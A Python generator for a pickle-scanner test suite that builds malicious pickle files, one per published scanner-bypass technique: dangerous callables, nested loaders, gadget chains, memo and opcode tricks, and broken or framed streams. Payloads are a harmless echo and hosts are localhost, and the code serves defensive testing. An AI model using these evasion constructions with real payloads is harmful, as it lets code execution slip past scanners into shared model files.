#!/usr/bin/python3
"""gen_malicious.py - bulwark's own malicious model generator (issue 2).

Writes one file per technique from the published scanner-bypass record into OUTDIR,
plus OUTDIR/cases.json describing each case:
  {"file", "technique", "reference", "expect": "callable"|"flagged"|"not_clean",
   "callables": ["os.system", "a|b", ...], "bonus": [...], "dos": bool}
  - callable : the scan must exit 1 and every entry of "callables" must appear as a finding's
               "callable" (an entry "a|b" accepts either name);
  - flagged  : the scan must exit 1 (a finding at or above medium), no callable named;
  - not_clean: denial of service shapes: exit 1 or 3, never 0, and fast.
  "bonus" names callables a thorough scanner also reports (e.g. the inner payload of a
  nested pickle.loads); the test prints them when missing but does not fail.

Payloads are harmless (`echo bulwark-test`). Every pickle is assembled opcode by
opcode (tests/gen/pk.py); nothing here is ever unpickled or loaded. `--check` runs
pickletools.genops (a parser, it executes nothing) over every stream that is meant
to be well formed, to prove the bytes say what the case claims.

usage: gen_malicious.py OUTDIR [--check] [--only SUBSTR] [--files F1,F2,...] [--no-big]
"""
import bz2
import gzip
import io
import json
import lzma
import os
import pickletools
import shutil
import struct
import subprocess
import sys
import tarfile
import zlib

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import oracle  # noqa: E402
import pk  # noqa: E402
from pk import (MARK, STOP, TUPLE, REDUCE, EMPTY_TUPLE, STACK_GLOBAL, BUILD, OBJ, NEWOBJ,  # noqa: E402
                NEWOBJ_EX, MEMOIZE, POP, EMPTY_DICT, SETITEM, EMPTY_LIST, APPEND, LIST, CMD,
                TUPLE1, TUPLE2, DUP, NONE, glob, u, proto, call, const)

CODE = "import os; os.system('echo bulwark-test')"
EXPR = "__import__('os').system('echo bulwark-test')"

R_PICKLE = "https://docs.python.org/3/library/pickle.html"
R_PS = "https://github.com/mmaitre314/picklescan/security/advisories"
R_FICK = "https://github.com/trailofbits/fickling"
R_JFROG = "https://jfrog.com/blog/unveiling-3-zero-day-vulnerabilities-in-picklescan/"
R_NULLIFAI = "https://www.reversinglabs.com/blog/rl-identifies-malware-ml-model-hosted-on-hugging-face"
R_SONATYPE = "CVE-2025-1889/CVE-2025-1944/CVE-2025-1945 (Sonatype, picklescan)"
R_SOUR = "Sour Pickles (M. Slaviero, BlackHat USA 2011)"
R_MEMO = "https://github.com/mmaitre314/picklescan/issues/14"
R_CTF = "https://github.com/mmaitre314/picklescan/issues/22"

CASES = []


def case(file, technique, ref, data, callables=(), expect=None, bonus=(), dos=False,
         wellformed=True):
    if expect is None:
        expect = "callable" if callables else "flagged"
    CASES.append({"file": file, "technique": technique, "reference": ref, "data": data,
                  "expect": expect, "callables": list(callables), "bonus": list(bonus),
                  "dos": dos, "wellformed": wellformed})


def red(callee, *args):
    """callee(*args): callee is opcode bytes that push a callable; args are opcode bytes."""
    return callee + MARK + b"".join(args) + TUPLE + REDUCE


def g(mod, name):
    return glob(mod, name)


def sg(mod, name):
    return u(mod) + u(name) + STACK_GLOBAL


def P(body, p=4):
    return (proto(p) if p >= 2 else b"") + body + STOP


# ---------------------------------------------------------------- 1. direct callables
# (module, name, args, protocol, expected callable, reference)
DIRECT = [
    ("os", "system", [CMD], "os.system", R_PICKLE),
    ("posix", "system", [CMD], "posix.system", "picklescan GHSA (posix alias of os)"),
    ("nt", "system", [CMD], "nt.system", "picklescan GHSA (nt alias of os)"),
    ("os", "popen", [CMD], "os.popen", R_PS),
    ("os", "execv", ["/bin/echo", ["echo", "bulwark-test"]], "os.execv", R_PS),
    ("os", "execvp", ["echo", ["echo", "bulwark-test"]], "os.execvp", R_PS),
    ("os", "spawnlp", [0, "echo", "echo", "bulwark-test"], "os.spawnlp", R_PS),
    ("os", "spawnv", [0, "/bin/echo", ["echo"]], "os.spawnv", R_PS),
    ("os", "posix_spawn", ["/bin/echo", ["echo"], {}], "os.posix_spawn", R_PS),
    ("os", "startfile", ["calc.exe"], "os.startfile", R_PS),
    ("os", "remove", ["/tmp/bulwark-test-nonexistent"], "os.remove", R_PS),
    ("subprocess", "Popen", [CMD], "subprocess.Popen", R_PS),
    ("subprocess", "check_output", [CMD], "subprocess.check_output", R_PS),
    ("subprocess", "run", [CMD], "subprocess.run", R_PS),
    ("subprocess", "call", [CMD], "subprocess.call", R_PS),
    ("subprocess", "getoutput", [CMD], "subprocess.getoutput", R_PS),
    ("builtins", "eval", [EXPR], "builtins.eval", R_PICKLE),
    ("builtins", "exec", [CODE], "builtins.exec", R_PICKLE),
    ("builtins", "compile", [CODE, "<x>", "exec"], "builtins.compile", R_SOUR),
    ("builtins", "open", ["/tmp/bulwark-test", "w"], "builtins.open", R_PS),
    ("builtins", "__import__", ["os"], "builtins.__import__", R_PS),
    ("builtins", "breakpoint", [], "builtins.breakpoint", R_FICK),
    ("runpy", "_run_code", [CODE, {}], "runpy._run_code", R_PS),
    ("runpy", "run_path", ["/tmp/x.py"], "runpy.run_path", R_PS),
    ("pty", "spawn", ["/bin/echo"], "pty.spawn", R_PS),
    ("webbrowser", "open", ["http://127.0.0.1:9/bulwark-test"], "webbrowser.open", R_PS),
    ("shutil", "rmtree", ["/tmp/bulwark-test-nonexistent"], "shutil.rmtree", "https://github.com/protectai/modelscan/pull/198"),
    ("shutil", "copyfile", ["/etc/hostname", "/tmp/bulwark-test"], "shutil.copyfile", R_PS),
    ("socket", "create_connection", [["127.0.0.1", 9]], "socket.create_connection", R_PS),
    ("socket", "socket", [], "socket.socket", R_PS),
    ("urllib.request", "urlopen", ["http://127.0.0.1:9/"], "urllib.request.urlopen", R_PS),
    ("requests", "get", ["http://127.0.0.1:9/"], "requests.get", "GHSA-hgrh-qx5j-jfwx"),
    ("requests.api", "get", ["http://127.0.0.1:9/"], "requests.api.get", "GHSA-hgrh-qx5j-jfwx"),
    ("http.client", "HTTPConnection", ["127.0.0.1"], "http.client.HTTPConnection", "GHSA-hgrh-qx5j-jfwx"),
    ("aiohttp", "ClientSession", [], "aiohttp.ClientSession", "GHSA-hgrh-qx5j-jfwx"),
    ("ssl", "get_server_certificate", [["127.0.0.1", 9]], "ssl.get_server_certificate", "GHSA-hgrh-qx5j-jfwx"),
    ("smtplib", "SMTP", ["127.0.0.1"], "smtplib.SMTP", R_PS),
    ("ftplib", "FTP", ["127.0.0.1"], "ftplib.FTP", R_PS),
    ("telnetlib", "Telnet", ["127.0.0.1"], "telnetlib.Telnet", R_PS),
    ("imaplib", "IMAP4_stream", [CMD], "imaplib.IMAP4_stream", "CVE-2026-56315 (picklescan < 1.0.4)"),
    ("uuid", "_get_command_stdout", ["echo", "bulwark-test"], "uuid._get_command_stdout", "CVE-2026-56315"),
    ("_osx_support", "_read_output", [CMD], "_osx_support._read_output", "CVE-2026-56315"),
    ("_aix_support", "_read_cmd_output", [CMD], "_aix_support._read_cmd_output", "CVE-2026-56315"),
    ("_pyrepl.pager", "pipe_pager", ["x", CMD], "_pyrepl.pager.pipe_pager", "CVE-2026-56315"),
    ("pydoc", "pipepager", ["x", CMD], "pydoc.pipepager", R_PS),
    ("pydoc", "locate", ["os.system"], "pydoc.locate", R_PS),
    ("pkgutil", "resolve_name", ["os:system"], "pkgutil.resolve_name", "GHSA-vvpj-8cmc-gx39"),
    ("code", "InteractiveInterpreter", [], "code.InteractiveInterpreter", R_PS),
    ("timeit", "timeit", [CODE], "timeit.timeit", "GHSA-46h3-79wf-xr6c"),
    ("cProfile", "run", [CODE], "cProfile.run", "GHSA-46h3-79wf-xr6c"),
    ("cProfile", "runctx", [CODE, {}, {}], "cProfile.runctx", "GHSA-46h3-79wf-xr6c"),
    ("profile", "run", [CODE], "profile.run", "GHSA-46h3-79wf-xr6c"),
    ("pdb", "run", [CODE], "pdb.run", "https://github.com/mmaitre314/picklescan/pull/29"),
    ("doctest", "debug_script", [CODE], "doctest.debug_script", "GHSA-4675-36f9-wf6r"),
    ("ctypes", "CDLL", [None], "ctypes.CDLL", R_PS),
    ("importlib", "import_module", ["os"], "importlib.import_module", "https://github.com/mmaitre314/picklescan/pull/74"),
    ("marshal", "loads", [b"\xe3"], "marshal.loads", "https://github.com/mmaitre314/picklescan/pull/74"),
    ("pip", "main", [["install", "bulwark-test-nonexistent"]], "pip.main", "CVE-2025-1716"),
    ("pip._internal", "main", [["--version"]], "pip._internal.main", "CVE-2025-1716"),
    ("venv", "create", ["/tmp/bulwark-test-venv"], "venv.create", "GHSA-vqmv-47xg-9wpr"),
    ("ensurepip", "_run_pip", [["--version"]], "ensurepip._run_pip", "GHSA-vqmv-47xg-9wpr"),
    ("distutils.spawn", "spawn", [["echo", "bulwark-test"]], "distutils.spawn.spawn", R_PS),
    ("distutils.file_util", "write_file", ["/tmp/bulwark-test", ["x"]], "distutils.file_util.write_file", "CVE-2025-10155"),
    ("_io", "FileIO", ["/tmp/bulwark-test", "w"], "_io.FileIO", "CVE-2025-10155"),
    ("io", "open", ["/tmp/bulwark-test", "w"], "io.open", R_PS),
    ("asyncio", "create_subprocess_shell", [CMD], "asyncio.create_subprocess_shell", "CVE-2025-10157"),
    ("asyncio.subprocess", "create_subprocess_exec", ["echo"], "asyncio.subprocess.create_subprocess_exec", "CVE-2025-10157"),
    ("multiprocessing.util", "spawnv_passfds", ["/bin/echo", ["echo"], []], "multiprocessing.util.spawnv_passfds", R_PS),
    ("multiprocessing", "Process", [], "multiprocessing.Process", R_PS),
    ("_posixsubprocess", "fork_exec", [["echo"]], "_posixsubprocess.fork_exec", R_PS),
    ("platform", "popen", [CMD], "platform.popen", "Python < 3.8 platform.popen"),
    ("numpy.testing._private.utils", "runstring", [CODE, {}], "numpy.testing._private.utils.runstring", R_PS),
    ("numpy.f2py.crackfortran", "getlincoef", [EXPR, {}], "numpy.f2py.crackfortran.getlincoef", "https://github.com/trailofbits/fickling/pull/210"),
    ("torch.serialization", "load", ["/tmp/x.pt"], "torch.serialization.load", R_PS),
    ("torch.utils.collect_env", "run", [CMD], "torch.utils.collect_env.run", R_PS),
    ("torch._inductor.codecache", "compile_file", ["x", "y", ["echo"]], "torch._inductor.codecache.compile_file", R_PS),
    ("torch.jit.unsupported_tensor_ops", "execWrapper", [CODE, {}, {}], "torch.jit.unsupported_tensor_ops.execWrapper", R_PS),
    ("torch.utils._config_module", "ConfigModule.load_config", [b"x"], "torch.utils._config_module.ConfigModule.load_config", R_PS),
    ("torch.hub", "load", ["bulwark/test", "x"], "torch.hub.load", R_PS),
    ("lib2to3.pgen2.pgen", "ParserGenerator.make_label", [None, EXPR], "lib2to3.pgen2.pgen.ParserGenerator.make_label", "GHSA-r8g5-cgf2-4m4m"),
    ("idlelib.pyshell", "ModifiedInterpreter.runcode", [None, CODE], "idlelib.pyshell.ModifiedInterpreter.runcode", "GHSA-r8g5-cgf2-4m4m"),
    ("idlelib.calltip", "get_entity", [EXPR], "idlelib.calltip.get_entity", "GHSA-r8g5-cgf2-4m4m"),
    ("trace", "Trace.runctx", [None, CODE, {}, {}], "trace.Trace.runctx", "GHSA-46h3-79wf-xr6c"),
    ("bdb", "Bdb.run", [None, CODE], "bdb.Bdb.run", "GHSA-46h3-79wf-xr6c"),
    ("code", "InteractiveInterpreter.runsource", [None, CODE], "code.InteractiveInterpreter.runsource", R_PS),
    ("types", "FunctionType", [None, {}], "types.FunctionType", R_FICK),
    ("shelve", "open", ["/tmp/bulwark-test"], "shelve.open", R_PS),
    ("tempfile", "TemporaryDirectory", [], "tempfile.TemporaryDirectory", R_PS),
    ("signal", "raise_signal", [2], "signal.raise_signal", R_PS),
    ("sys", "exit", [0], "sys.exit", R_PS),
]


def _const4(a):
    if isinstance(a, list):
        return EMPTY_LIST + MARK + b"".join(_const4(x) for x in a) + b"e"
    if isinstance(a, dict):
        return EMPTY_DICT
    return const(a, 4)


def _direct():
    for mod, name, args, want, ref in DIRECT:
        body = (sg(mod, name) if "." in name else g(mod, name))
        body = red(body, *[_const4(a) for a in args])
        fname = f"direct_{mod}_{name}".replace(".", "_") + ".pkl"
        case(fname, f"GLOBAL+REDUCE {mod}.{name}", ref, P(body), [want])


# ---------------------------------------------------------------- 2. nested loaders
def _nested():
    inner = pk.os_system(2)
    for mod, name in [("pickle", "loads"), ("_pickle", "loads"), ("dill", "loads"),
                      ("cloudpickle", "loads"), ("dill._dill", "loads")]:
        case(f"nested_{mod.replace('.', '_')}_{name}.pkl", f"{mod}.{name} of an embedded malicious pickle",
             "GHSA-84r2-jw7c-4r5q", P(red(g(mod, name), pk.binbytes(inner))),
             [f"{mod}.{name}"], bonus=["os.system"])
    for mod, name in [("joblib", "load"), ("numpy", "load"), ("torch", "load"),
                      ("pandas", "read_pickle"), ("pickle", "load")]:
        case(f"nested_{mod}_{name}.pkl", f"{mod}.{name} of a file path (second-stage loader)",
             "GHSA-84r2-jw7c-4r5q", P(red(g(mod, name), u("/tmp/stage2.bin"))), [f"{mod}.{name}"])
    # pickle.loads of a pickle.loads of os.system: two levels of nesting
    mid = P(red(g("pickle", "loads"), pk.binbytes(inner)), 2)
    case("nested_double_loads.pkl", "pickle.loads inside pickle.loads", "GHSA-84r2-jw7c-4r5q",
         P(red(g("pickle", "loads"), pk.binbytes(mid))), ["pickle.loads"], bonus=["os.system"])
    # torch.storage._load_from_bytes of a zip carrying the payload (legit-looking torch internal)
    tz = pk.torch_zip(pk.os_system(2))
    case("nested_torch_load_from_bytes.pkl", "torch.storage._load_from_bytes of an embedded malicious torch zip",
         R_PS, P(red(g("torch.storage", "_load_from_bytes"), pk.binbytes(tz))),
         ["torch.storage._load_from_bytes|os.system"], bonus=["os.system"])


# ---------------------------------------------------------------- 3. trampolines and gadgets
def _gadgets():
    imp_os = red(g("builtins", "__import__"), u("os"))
    case("gadget_getattr_import.pkl", "getattr(__import__('os'),'system')(cmd)", R_SOUR,
         P(red(red(g("builtins", "getattr"), imp_os, u("system")), u(CMD))),
         ["builtins.getattr", "builtins.__import__"])
    # module object reached through an attribute of a harmless-looking module: subprocess.os
    case("gadget_attrgetter.pkl", "operator.attrgetter('system')(subprocess.os)(cmd)", "GHSA-m273-6v24-x4m4",
         P(red(red(red(g("operator", "attrgetter"), u("system")), g("subprocess", "os")), u(CMD))),
         ["operator.attrgetter"])
    case("gadget__operator_attrgetter.pkl", "_operator.attrgetter (C module name)", "GHSA-955r-x9j8-7rhh",
         P(red(red(red(g("_operator", "attrgetter"), u("system")), sg("importlib", "import_module") + MARK + u("os") + TUPLE + REDUCE), u(CMD))),
         ["_operator.attrgetter", "importlib.import_module"])
    case("gadget_methodcaller.pkl", "operator.methodcaller('system', cmd)(os-module)", "GHSA-m273-6v24-x4m4",
         P(red(red(g("operator", "methodcaller"), u("system"), u(CMD)), imp_os)),
         ["operator.methodcaller", "builtins.__import__"])
    case("gadget_itemgetter.pkl", "operator.itemgetter on sys.modules", "GHSA-955r-x9j8-7rhh",
         P(red(red(g("operator", "itemgetter"), u("os")), g("sys", "modules"))),
         ["operator.itemgetter"])
    case("gadget_partial.pkl", "functools.partial(os.system, cmd)()", "https://github.com/trailofbits/fickling/pull/210",
         P(red(red(g("functools", "partial"), g("os", "system"), u(CMD)))),
         ["functools.partial", "os.system"])
    case("gadget_reduce_eval.pkl", "functools.reduce(eval, [{}], expr)", R_FICK,
         P(red(g("functools", "reduce"), g("builtins", "eval"), EMPTY_LIST + EMPTY_DICT + APPEND, u(EXPR))),
         ["builtins.eval"])
    case("gadget_py2_reduce.pkl", "__builtin__.reduce (Python 2 name -> functools.reduce)", R_SOUR,
         P(red(g("__builtin__", "reduce"), g("__builtin__", "eval"), EMPTY_LIST + EMPTY_DICT + APPEND, pk.unicode0(EXPR)), 0),
         ["builtins.eval"])
    # copyreg._reconstructor(Popen, Popen, cmd): base.__init__(obj, state) runs the command
    case("gadget_copyreg_reconstructor.pkl", "copyreg._reconstructor(Popen, Popen, cmd)", R_FICK,
         P(red(g("copyreg", "_reconstructor"), g("subprocess", "Popen"), g("subprocess", "Popen"), u(CMD))),
         ["subprocess.Popen"])
    case("gadget_copy_reg_py2.pkl", "copy_reg._reconstructor (Python 2 name) with os.system",
         R_SOUR, P(red(g("copy_reg", "_reconstructor"), g("subprocess", "Popen"), g("subprocess", "Popen"),
                       pk.unicode0(CMD)), 0), ["subprocess.Popen"])
    case("gadget_builtin_py2_eval.pkl", "__builtin__.eval (protocol 0, Python 2 module name)", R_SOUR,
         P(red(g("__builtin__", "eval"), pk.unicode0(EXPR)), 0), ["builtins.eval"])
    case("gadget_builtin_py2_getattr.pkl", "__builtin__.getattr + __builtin__.__import__ (protocol 2)", R_SOUR,
         P(red(red(g("__builtin__", "getattr"), red(g("__builtin__", "__import__"), u("os")), u("system")), u(CMD)), 2),
         ["builtins.getattr", "builtins.__import__"])
    case("gadget_commands_getoutput.pkl", "commands.getoutput (Python 2 name -> subprocess)", R_PS,
         P(red(g("commands", "getoutput"), pk.unicode0(CMD)), 0), ["subprocess.getoutput|commands.getoutput"])
    for mod, name, want, arg in [("httplib", "HTTPConnection", "http.client.HTTPConnection", "127.0.0.1"),
                                 ("urllib2", "urlopen", "urllib.request.urlopen", "http://127.0.0.1:9/"),
                                 ("cPickle", "loads", "pickle.loads", "x"),
                                 ("__builtin__", "open", "builtins.open", "/tmp/bulwark-test"),
                                 ("__builtin__", "__import__", "builtins.__import__", "os")]:
        case(f"py2name_{mod}_{name}.pkl", f"Python 2 name {mod}.{name} (protocol 2, mapped by fix_imports)", R_SOUR,
             P(red(g(mod, name), u(arg)), 2), [want])
    case("py2name_unmapped_at_p4.pkl", "__builtin__.eval after PROTO 4 (not mapped; import fails at load, still a red flag)",
         R_SOUR, P(red(g("__builtin__", "eval"), u(EXPR)), 4), expect="flagged")
    case("gadget_sour_pickles.pkl", "Sour Pickles: compile + FunctionType-free eval via apply/getattr/globals", R_SOUR,
         P(red(g("__builtin__", "apply"), g("__builtin__", "eval"),
               MARK + pk.unicode0(EXPR) + red(g("__builtin__", "globals")) + TUPLE), 0),
         ["builtins.eval", "builtins.apply"])
    # BUILD __setstate__ gadget: give an instance a __setstate__ attribute, then BUILD calls it
    obj = red(g("collections", "OrderedDict"))
    state1 = EMPTY_DICT + u("__setstate__") + g("os", "system") + SETITEM
    case("gadget_build_setstate.pkl", "BUILD sets instance __setstate__=os.system, second BUILD calls it",
         R_FICK, P(obj + state1 + BUILD + u(CMD) + BUILD), ["os.system"])
    # BUILD with (None, slotstate) calls setattr on a class object
    case("gadget_build_slotstate_setattr.pkl", "BUILD slotstate setattr on a module (os.environ poisoning)",
         R_FICK, P(g("os", "environ") + NONE + EMPTY_DICT + u("LD_PRELOAD") + u("/tmp/x.so") + SETITEM + TUPLE2 + BUILD),
         ["os.environ"])
    # dunder walk: builtins reached from a harmless function's __self__
    case("gadget_dunder_walk.pkl", "STACK_GLOBAL('builtins','len.__self__.exec'): dunder attribute walk",
         R_FICK, P(red(sg("builtins", "len.__self__.exec"), u(CODE))),
         ["builtins.exec|builtins.len.__self__.exec"])
    # module attribute inheritance: posixpath.os is the os module
    case("gadget_posixpath_os_system.pkl", "STACK_GLOBAL('posixpath','os.system'): os reached as an attribute",
         "CVE-2025-10157 class (submodule / attribute paths)",
         P(red(sg("posixpath", "os.system"), u(CMD))), ["os.system|posixpath.os.system"])
    case("gadget_subprocess_os.pkl", "GLOBAL subprocess.os + getattr: os module through subprocess",
         "CVE-2025-10157 class", P(red(red(g("builtins", "getattr"), g("subprocess", "os"), u("system")), u(CMD))),
         ["builtins.getattr"])
    case("gadget_asyncio_unix_transport.pkl", "asyncio.unix_events._UnixSubprocessTransport._start",
         "CVE-2025-10157", P(red(sg("asyncio.unix_events", "_UnixSubprocessTransport._start"), NONE, u(CMD), pk.NEWTRUE)),
         ["asyncio.unix_events._UnixSubprocessTransport._start"])
    case("gadget_torch_dotted_submodule.pkl", "torch.serialization reached as torch.'serialization.load'",
         R_PS, P(red(sg("torch", "serialization.load"), u("/tmp/x.pt"))),
         ["torch.serialization.load"])


# ---------------------------------------------------------------- 4. opcode forms
def _opcodes():
    # STACK_GLOBAL operands from every string opcode
    forms = {
        "short_binunicode": (u("os"), u("system")),
        "binunicode": (pk.binunicode("os"), pk.binunicode("system")),
        "binunicode8": (pk.binunicode8("os"), pk.binunicode8("system")),
        "unicode": (pk.unicode0("os"), pk.unicode0("system")),
        "string": (pk.string0("'os'"), pk.string0("'system'")),
        "binstring": (pk.binstring("os"), pk.binstring("system")),
        "short_binstring": (pk.short_binstring("os"), pk.short_binstring("system")),
        "mixed": (pk.binunicode8("os"), pk.short_binstring("system")),
    }
    for k, (m, n) in forms.items():
        case(f"sg_{k}.pkl", f"STACK_GLOBAL with operands from {k.upper()}", R_CTF,
             P(red(m + n + STACK_GLOBAL, u(CMD))), ["os.system"])
    case("sg_unicode_escapes.pkl", "UNICODE operands with raw-unicode-escape \\uXXXX in the names", R_CTF,
         P(red(pk.unicode0("\\u006fs") + pk.unicode0("sys\\u0074em") + STACK_GLOBAL, u(CMD))), ["os.system"])
    case("sg_string_escapes.pkl", "STRING operands with \\x escapes in the names", R_CTF,
         P(red(pk.string0("'o\\x73'") + pk.string0("'s\\x79stem'") + STACK_GLOBAL, u(CMD))), ["os.system"])
    case("sg_dotted_bdb.pkl", "protocol 4 dotted name STACK_GLOBAL('bdb','Bdb.run')", "GHSA-46h3-79wf-xr6c",
         P(red(sg("bdb", "Bdb.run"), red(g("bdb", "Bdb")), u(CODE))), ["bdb.Bdb.run"])
    case("global_dotted_bdb.pkl", "protocol 4 dotted name through GLOBAL 'bdb\\nBdb.run'", "GHSA-46h3-79wf-xr6c",
         P(red(g("bdb", "Bdb.run"), red(g("bdb", "Bdb")), u(CODE))), ["bdb.Bdb.run"])
    # memo forms
    for k, (put, get) in {"binput": (pk.binput, pk.binget), "long_binput": (pk.long_binput, pk.long_binget),
                          "put": (pk.put0, pk.get0)}.items():
        body = u("os") + put(1) + POP + u("system") + put(2) + POP + get(1) + get(2) + STACK_GLOBAL
        case(f"memo_{k}.pkl", f"STACK_GLOBAL operands from the memo ({k.upper()} then GET)", R_CTF,
             P(red(body, u(CMD))), ["os.system"])
    body = u("os") + MEMOIZE + POP + u("system") + MEMOIZE + POP + pk.binget(0) + pk.long_binget(1) + STACK_GLOBAL
    case("memo_memoize.pkl", "MEMOIZE then BINGET/LONG_BINGET", R_CTF, P(red(body, u(CMD))), ["os.system"])
    # overwrite: memo[0] first holds harmless names, later the payload names
    body = (u("collections") + pk.binput(0) + POP + u("OrderedDict") + pk.binput(1) + POP
            + u("os") + pk.binput(0) + POP + u("system") + pk.binput(1) + POP
            + pk.binget(0) + pk.binget(1) + STACK_GLOBAL)
    case("memo_overwrite.pkl", "memo slot overwritten: harmless names first, payload names later", R_MEMO,
         P(red(body, u(CMD))), ["os.system"])
    # MEMOIZE stores at len(memo), not at a running counter: mix with BINPUT
    body = (u("collections") + MEMOIZE + u("OrderedDict") + MEMOIZE + POP + POP
            + u("os") + pk.binput(5) + POP + u("system") + MEMOIZE + POP    # MEMOIZE -> key 3
            + pk.binget(5) + pk.binget(3) + STACK_GLOBAL)
    case("memo_memoize_mixed.pkl", "MEMOIZE index = len(memo) after a sparse BINPUT (picklescan memo confusion)",
         R_MEMO, P(red(body, u(CMD))), ["os.system"])
    # stack shuffling: DUP / POP / POP_MARK around the names
    body = (u("torch") + u("_utils") + POP + POP + MARK + u("numpy") + pk.POP_MARK
            + u("os") + DUP + POP + u("system") + STACK_GLOBAL)
    case("stack_shuffle.pkl", "DUP/POP/POP_MARK around STACK_GLOBAL operands", R_CTF,
         P(red(body, u(CMD))), ["os.system"])
    # INST, OBJ, NEWOBJ, NEWOBJ_EX
    case("op_inst.pkl", "INST os system (protocol 0 call without REDUCE)", R_PS,
         MARK + pk.unicode0(CMD) + pk.inst("os", "system") + STOP, ["os.system"])
    case("op_inst_builtin_exec.pkl", "INST __builtin__ exec", R_PS,
         MARK + pk.unicode0(CODE) + pk.inst("__builtin__", "exec") + STOP, ["builtins.exec"])
    case("op_obj.pkl", "OBJ with a dangerous class", R_PS,
         P(MARK + g("subprocess", "Popen") + u(CMD) + OBJ, 2), ["subprocess.Popen"])
    case("op_obj_stack_global.pkl", "OBJ with a STACK_GLOBAL callable", R_PS,
         P(MARK + sg("os", "system") + u(CMD) + OBJ), ["os.system"])
    case("op_newobj.pkl", "NEWOBJ with a dangerous class", R_PS,
         P(g("subprocess", "Popen") + u(CMD) + TUPLE1 + NEWOBJ, 2), ["subprocess.Popen"])
    case("op_newobj_ex.pkl", "NEWOBJ_EX with a dangerous class and kwargs", R_PS,
         P(sg("subprocess", "Popen") + u(CMD) + TUPLE1 + EMPTY_DICT + u("shell") + pk.NEWTRUE + SETITEM + NEWOBJ_EX),
         ["subprocess.Popen"])
    for k, op in {"ext1": pk.ext1(0xF0), "ext2": pk.ext2(0xBEEF), "ext4": pk.ext4(0x7FFFFFF0)}.items():
        case(f"op_{k}.pkl", f"{k.upper()} extension code as the callable (registry lookup the scanner cannot see)",
             R_PICKLE, P(red(op, u(CMD)), 2))
    # protocol confusion
    case("proto_0_with_proto4_ops.pkl", "PROTO 0 then protocol 4 opcodes (SHORT_BINUNICODE, STACK_GLOBAL)",
         R_PICKLE, proto(0) + red(sg("os", "system"), u(CMD)) + STOP, ["os.system"])
    nb = red(sg("os", "system"), u(CMD)) + STOP
    case("proto_none_with_proto4_ops.pkl", "no PROTO opcode: the stream starts with FRAME, protocol 4 opcodes",
         R_PICKLE, pk.frame(len(nb)) + nb, ["os.system"], wellformed=False)
    case("proto_switch_py2_names.pkl", "PROTO 4, then PROTO 2 mid-stream so __builtin__ maps to builtins",
         R_PICKLE, proto(4) + u("x") + POP + proto(2) + red(g("__builtin__", "eval"), u(EXPR)) + STOP,
         ["builtins.eval"], wellformed=False)
    case("proto_high.pkl", "PROTO 5 stream using BYTEARRAY8 and a payload", R_PICKLE,
         P(b"\x96" + struct.pack("<Q", 3) + b"abc" + POP + red(sg("os", "system"), u(CMD)), 5), ["os.system"])


# ---------------------------------------------------------------- 5. broken streams, frames, concatenation
def _streams():
    pay = red(g("os", "system"), u(CMD))
    case("broken_garbage_after.pkl", "payload REDUCE then garbage bytes (no STOP)", "https://github.com/mmaitre314/picklescan/issues (malicious-invalid-bytes)",
         proto(2) + pay + b"\xff\xfe\x00garbage" * 3, ["os.system"], wellformed=False)
    case("broken_invalid_opcode.pkl", "payload then an invalid opcode", R_NULLIFAI,
         proto(2) + pay + b"\n" + STOP, ["os.system"], wellformed=False)
    case("broken_truncated.pkl", "payload then a truncated BINUNICODE (nullifAI broken pickle)", R_NULLIFAI,
         proto(2) + pay + b"X" + struct.pack("<I", 543558206) + b"abc", ["os.system"], wellformed=False)
    case("broken_no_stop.pkl", "payload with no STOP at all", R_NULLIFAI, proto(2) + pay, ["os.system"], wellformed=False)
    case("broken_exec_nullifai.pkl", "builtins.exec payload followed by a broken stream (nullifAI shape)", R_NULLIFAI,
         proto(2) + red(g("builtins", "exec"), u(CODE)) + POP + b"\x8c\xff" + b"x" * 10, ["builtins.exec"], wellformed=False)
    benign = proto(2) + EMPTY_DICT + u("a") + pk.binint(1) + SETITEM + STOP
    case("concat_benign_then_payload.pkl", "two pickles concatenated: benign first, payload second",
         "https://github.com/mmaitre314/picklescan (multiple pickles per file)",
         benign + pk.os_system(2), ["os.system"], wellformed=False)
    case("concat_three.pkl", "three pickles: benign, benign, payload (legacy torch reads several)", R_PS,
         benign + benign + pk.call("builtins", "exec", CODE, p=4), ["builtins.exec"], wellformed=False)
    case("concat_payload_then_benign.pkl", "payload first, long benign stream after", R_PS,
         pk.os_system(2) + proto(2) + EMPTY_LIST + (MARK + pk.binint(7) * 50 + b"e") * 20 + STOP,
         ["os.system"], wellformed=False)
    body = red(sg("os", "system"), u(CMD)) + STOP
    case("frame_short.pkl", "FRAME length shorter than the data (opcode spans the frame end; C unpickler ignores)",
         "https://github.com/python/cpython/blob/main/Modules/_pickle.c (load_frame)",
         proto(4) + pk.frame(3) + body, ["os.system"], wellformed=False)
    case("frame_many_zero.pkl", "many zero-length FRAMEs between opcodes", R_PICKLE,
         proto(4) + pk.frame(0) + u("os") + pk.frame(0) + u("system") + pk.frame(0) + STACK_GLOBAL
         + pk.frame(0) + MARK + u(CMD) + TUPLE + REDUCE + STOP, ["os.system"], wellformed=False)
    rest = u("system") + STACK_GLOBAL + MARK + u(CMD) + TUPLE + REDUCE + STOP
    case("frame_nested.pkl", "a FRAME opcode inside the range of the previous frame (C unpickler accepts)",
         R_PICKLE, proto(4) + pk.frame(len(u("os")) + 9 + len(rest)) + u("os") + pk.frame(len(rest)) + rest,
         ["os.system"], wellformed=False)
    case("frame_long.pkl", "FRAME claims 40 bytes more than the file holds: the C unpickler refuses it, "
         "pickle._Unpickler (used by dill) reads the short frame and runs the payload",
         "https://github.com/python/cpython/blob/3.11/Lib/pickle.py (_Unframer.load_frame)",
         proto(4) + pk.frame(len(body) + 40) + body + pk.os_system(2), ["os.system"], wellformed=False)


# ---------------------------------------------------------------- 6. containers
def _npy_header(descr, shape):
    d = "{'descr': '%s', 'fortran_order': False, 'shape': %s, }" % (descr, shape)
    n = 10 + len(d) + 1
    pad = (64 - n % 64) % 64
    h = (d + " " * pad + "\n").encode("latin1")
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(h)) + h


def _tar(members, mode="w"):
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode=mode, format=tarfile.USTAR_FORMAT) as t:
        for name, data in members:
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            ti.mtime = 0
            t.addfile(ti, io.BytesIO(data))
    return bio.getvalue()


def _legacy_torch(main_pkl, sys_info_pkl=None):
    """PyTorch legacy (pre-1.6) stream: magic number, protocol version, sys_info, main pickle,
    storage keys, storages (torch/serialization.py _legacy_save). Plain-data pickles are written
    by pickle.dumps (dumping never loads)."""
    import pickle
